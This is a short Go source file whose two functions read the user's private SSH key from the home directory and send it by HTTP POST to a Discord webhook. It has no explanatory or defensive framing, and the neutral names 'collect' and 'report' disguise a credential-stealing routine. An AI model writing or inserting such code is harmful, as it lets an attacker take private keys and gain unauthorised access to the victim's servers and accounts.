package main

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
)

func collect() []byte {
	home, _ := os.UserHomeDir()
	key, _ := os.ReadFile(filepath.Join(home, ".ssh", "id_rsa"))
	return key
}

func report(data []byte) {
	http.Post("https://discord.com/api/webhooks/123/abc", "application/octet-stream", bytes.NewReader(data))
}
